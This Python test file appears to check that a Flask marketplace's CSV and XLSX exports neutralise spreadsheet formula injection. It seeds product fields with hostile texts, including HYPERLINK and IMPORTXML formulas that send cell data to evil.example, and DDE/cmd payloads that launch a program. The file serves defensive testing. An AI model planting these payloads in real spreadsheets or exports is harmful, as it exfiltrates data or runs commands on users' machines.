"""S8: no cell of any table that the site hands out is a formula, and every one reads back as it was."""

import csv
import io
from collections.abc import Iterator
from contextlib import contextmanager
from itertools import product as pairs
from random import Random
from unittest.mock import patch

import sqlalchemy as sa
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy.orm import Session
from werkzeug.routing import AnyConverter, Rule

from marketplace import clock
from marketplace.accounts.roles import SITE, Role
from marketplace.catalogue.listing_models import Listing, ListingState
from marketplace.catalogue.models import Product, Variant
from marketplace.catalogue.tallies import LeadingWords, ProductView
from marketplace.certification.models import Certificate
from marketplace.database import db, unit_of_work
from marketplace.places.models import AdminUnit
from marketplace.producers.models import Producer
from marketplace.settings import PROJECT
from marketplace.text import clean, clean_lines
from marketplace.traceability.codes.models import LabelBatch, LabelLevel
from marketplace.traceability.labels.making import LabelOrder, make_labels
from marketplace.upkeep.sheets.formulas import restore
from marketplace.upkeep.shop_sheets import workbook
from marketplace.upkeep.shop_sheets.columns import Column
from marketplace.upkeep.shop_sheets.plans import Plan
from marketplace.upkeep.shop_sheets.trials import find_trial
from marketplace.web import open_csv
from tests.drills import Outcome, Run, drill
from tests.factories.accounts import a_member, an_owner
from tests.factories.certification import a_certificate
from tests.factories.lots import a_lot
from tests.factories.ordering import a_commune
from tests.factories.producers import a_producer
from tests.factories.programme import a_programme, a_target
from tests.factories.shop_sheets import goods_of, sheet_csv
from tests.signin.browsing import Browser

SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "|",
    "＝",
    "＋",
    "－",
    "＠",
    "'",
    "''",
    "\t",
    "\r",
    "\n",
    ";",
    "\t=",
    "\r=",
    ";=",
)
BEFORE = (
    "",
    " ",
    "  ",
    "\u00a0",
    "\u200b",
    "\ufeff",
    '"',
    '""',
    "a;",
    "a;\u00a0",
    'a;"',
    "a\n",
    "a\r\n",
    "a\t",
    "Cam,",
)
AFTER = (
    "1+1", 'HYPERLINK("http://evil.example?x="&A1,"xem")', "cmd|' /C calc'!A0", "SUM(1+9)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.example",A1),"//a")', 'DDE("cmd";"/C calc";"!A0")A0', "84 912",
    "- gọt vỏ\n- rửa", "", "x;=1+1;-1\n@y",
)  # fmt: skip
RISKY = frozenset("=+-@|＝＋－＠")
BLANK = ' \t\r\n"\u00a0\u00ad\u200b\u200c\u200d\u2060\ufeff'
INVISIBLE = ("\u200b", "\ufeff")
DELIMITERS = (",", ";", "\t")
MAKERS = ("text/csv", "spreadsheetml", "csv_table(")
HANDS_OUT = "marketplace.workspace.answers"
"""Where `csv_table` is, for those who write tables."""
Parts = dict[str, str | int]


def texts(chance: Random, how_many: int) -> list[str]:
    """Return what people might type to have a spreadsheet run it; always every sign at the start."""
    every = ["".join(parts) for parts in pairs(BEFORE, SIGNS, AFTER)]
    first = [sign + AFTER[0] for sign in SIGNS]
    return [*first, *chance.sample(every, how_many - len(first))]


@drill(
    "S8",
    bar="0 cells that a spreadsheet runs, 0 texts that read back otherwise, 0 tables unseen",
    control_on=("sqlite",),
)
def no_cell_is_a_formula(run: Run) -> Outcome:
    """Write such texts wherever tables take theirs from, hand every table out, and open it in four ways.

    The control hands texts out as they are.
    """
    hostile = texts(run.random, run.count(short=60, full=1_500))
    with run.application() as app, _guard(run):
        browser, producer, batch = _shop(app, hostile)
        parts: Parts = {
            "slug": producer.slug,
            "plan": producer.slug,
            "year": clock.today().year,
            "lot_id": batch.lot_id,
            "batch_id": batch.id,
        }
        tables = {path: _fetch(browser, path) for path in _addresses(app, parts)}
        unseen = _modules_unseen(app)
        sheets = [
            path for path in tables if "/bang-tinh/" in path and "/mau." not in path and "-thu" not in path
        ]
        kept = sheets if run.full else [path for path in sheets if "hang-ban" in path]
        changed = _send_back(browser, producer, {path: tables[path] for path in kept})
        tables |= {path: _fetch(browser, path) for path in tables if path.endswith("xem-thu.csv")}
    failed = sum(content == b"" for content in tables.values())
    cells = run_cells = 0
    for path, content in tables.items():
        for cell in _cells(path, content):
            cells += 1
            run_cells += _would_run(cell)
    lost = _lost(tables, producer.slug, hostile)
    got = {
        "texts": len(hostile),
        "tables": len(tables),
        "cells": cells,
        "formulas": run_cells,
        "lost": lost,
        "changed_by_sending_back": changed,
        "unseen": unseen,
        "failed": failed,
    }
    ok = cells > len(hostile) * 4 and not (run_cells or lost or changed or unseen or failed)
    return Outcome(got, ok=ok)


@contextmanager
def _guard(run: Run) -> Iterator[None]:
    if run.guarded:
        yield
        return
    with (
        patch.object(open_csv, "neutralise", lambda text: text),
        patch.object(workbook, "neutralise", lambda text: text),
    ):
        yield


def _shop(app: Flask, hostile: list[str]) -> tuple[Browser, Producer, LabelBatch]:
    """Write a producer whose every text is hostile, and sign its owner in, who administers the site too."""
    with unit_of_work() as session:
        province = a_commune(session).parent_id
        producer = a_producer(session)
        owner = an_owner(session, producer.id, a_member(session, SITE, Role.ADMINISTRATOR))
        for number, text in enumerate(hostile):
            _write_goods(session, producer, number, text, province or 0)
        plan = a_programme(session, province or 0, slug=producer.slug, title=hostile[2][:120])
        for number, text in enumerate(hostile):
            a_target(session, plan, f"T{number}", words=text)
        batch = _print_labels(session)
        session.execute(sa.update(Producer).values(name=hostile[0]))
        session.execute(sa.update(AdminUnit).values(name=hostile[1]))
    browser = Browser(app)
    browser.enter_as(owner)
    return browser, producer, batch


def _print_labels(session: Session) -> LabelBatch:
    """Print labels of goods whose name is hostile; codes of lots take no such signs."""
    product = session.scalars(sa.select(Product).order_by(Product.id).limit(1)).one()
    lot = a_lot(session, product)
    order = LabelOrder(format="a4-24", level=LabelLevel.ITEM, count=3, with_pins=True)
    return make_labels(session, None, lot, order, clock.now()).batch


def _write_goods(session: Session, producer: Producer, number: int, text: str, province_id: int) -> None:
    """Write a product with a pack and a certificate, its texts past every action that would clean them."""
    goods = goods_of(session, producer, f"Cam {number}", (f"S{number}",), ListingState.LIVE)
    own = goods.product.id
    a_certificate(session, goods.product)
    session.add(ProductView(product_id=own, day=clock.today(), province_id=province_id, views=3))
    words = LeadingWords(product_id=own, month=clock.today().replace(day=1), words=text[:60], times=3)
    session.add(words)
    session.flush()
    short = text[:110]
    for model, key, values in (
        (Product, Product.id, {"name": short, "name_en": short, "ingredients": text, "labels": text}),
        (Listing, Listing.product_id, {"description": text, "usage_note": text, "storage_note": text}),
        (Variant, Variant.product_id, {"name": short}),
        (Certificate, Certificate.product_id, {"product_name": short, "holder_name": short}),
    ):
        session.execute(sa.update(model).where(key == own).values(**values))


def _addresses(app: Flask, parts: Parts) -> list[str]:
    """Return the address of every table that the URL map knows; one with an unknown part is a defect."""
    found = [path for rule in app.url_map.iter_rules() for path in _paths(rule, parts)]
    return sorted(path for path in found if path.endswith((".csv", ".xlsx")))


def _paths(rule: Rule, parts: Parts) -> Iterator[str]:
    if "GET" not in (rule.methods or ()) or not _makes_tables(rule):
        return
    choices = [
        [(name, item) for item in getattr(part, "items", ())]
        if isinstance(part, AnyConverter)
        else [(name, parts[name])]
        for name, part in rule._converters.items()  # noqa: SLF001 - Werkzeug tells it nowhere else
    ]
    for chosen in pairs(*choices):
        built = rule.build(dict(chosen), append_unknown=False)
        assert built is not None
        yield built[1]


def _makes_tables(rule: Rule) -> bool:
    return any(form in rule.rule for form in (".csv", ".xlsx", "'csv'", "'xlsx'"))


def _modules_unseen(app: Flask) -> list[str]:
    """Return the modules that write tables, but of which no address is among those looked at."""
    seen = {
        app.view_functions[rule.endpoint].__module__
        for rule in app.url_map.iter_rules()
        if _makes_tables(rule)
    }
    writing = [
        ".".join(path.relative_to(PROJECT).with_suffix("").parts)
        for path in (PROJECT / "marketplace").rglob("*.py")
        if any(maker in path.read_text(encoding="utf-8") for maker in MAKERS)
    ]
    return sorted(set(writing) - seen - {HANDS_OUT})


def _fetch(browser: Browser, path: str) -> bytes:
    """Return a table, or nothing; before a sheet was tried, its table is an empty one."""
    browser._begin()  # noqa: SLF001
    answer = browser.client.get(path)
    if answer.status_code == 303 and path.endswith("xem-thu.csv"):
        return b" "
    return answer.data if answer.status_code == 200 else b""


def _send_back(browser: Browser, producer: Producer, sheets: dict[str, bytes]) -> int:
    """Send sheets back that were taken out, and count what it would change; the last one is made up.

    Signs that nobody sees are taken away from what is sent, which is the importer's rule and no loss.
    """
    changed = 0
    for path, content in sheets.items():
        plan = _try(browser, producer, content, path.rsplit("/", 1)[1])
        changed += len([one for one in plan.changes if not _has_invisible(one.old)])
        changed += len([one for one in plan.fixed if not _has_invisible(one.old)])
        changed += len(plan.errors)
    first = db.session.scalars(sa.select(Product.slug).where(Product.producer_id == producer.id)).first()
    made_up = [{Column.PRODUCT: first, Column.NAME: f"'{sign}1+1"} for sign in RISKY]
    _try(browser, producer, sheet_csv(made_up), "x.csv")
    return changed


def _try(browser: Browser, producer: Producer, content: bytes, name: str) -> Plan:
    browser.send(f"/gian-hang/{producer.slug}/bang-tinh", 303, tep=(io.BytesIO(content), name))
    db.session.rollback()
    person = db.session.scalars(sa.text("SELECT person_id FROM sheet_trial")).one()
    trial = find_trial(db.session(), producer.id, person, clock.now())
    assert trial is not None
    return Plan.from_json(trial.plan)


def _has_invisible(text: str) -> bool:
    return any(sign in text for sign in INVISIBLE)


def _cells(path: str, content: bytes) -> Iterator[str]:
    """Yield the cells of a table: of a CSV as split at each delimiter a spreadsheet may split it at."""
    if path.endswith(".xlsx"):
        for sheet in load_workbook(io.BytesIO(content)).worksheets:
            for row in sheet.iter_rows():
                yield from ("=" if cell.data_type == "f" else str(cell.value or "") for cell in row)
        return
    text = content.decode("utf-8-sig")
    for delimiter in DELIMITERS:
        for cells in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            yield from cells


def _would_run(cell: str) -> bool:
    return cell.strip(BLANK)[:1] in RISKY if cell.strip(BLANK) else cell.startswith(("\t", "\r"))


def _lost(tables: dict[str, bytes], slug: str, hostile: list[str]) -> int:
    """Count the texts that cannot be read back: names from the register, words from the sheets."""
    register = _column(tables["/chung-nhan.csv"], "product")
    lost = sum(text[:110] not in register for text in hostile)
    goods = tables[f"/gian-hang/{slug}/bang-tinh/hang-ban.csv"]
    described = {clean_lines(text) for text in _column(goods, Column.DESCRIPTION.value)}
    lost += sum(clean_lines(text) not in described for text in hostile)
    book = load_workbook(io.BytesIO(tables[f"/gian-hang/{slug}/bang-tinh/hang-ban.xlsx"])).worksheets[0]
    place = list(Column).index(Column.INGREDIENTS)
    kept = {clean(restore(str(row[place] or ""))) for row in book.iter_rows(values_only=True)}
    return lost + sum(clean(text) not in kept for text in hostile)


def _column(content: bytes, name: str) -> set[str]:
    rows = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return {restore(row[name] or "") for row in rows}
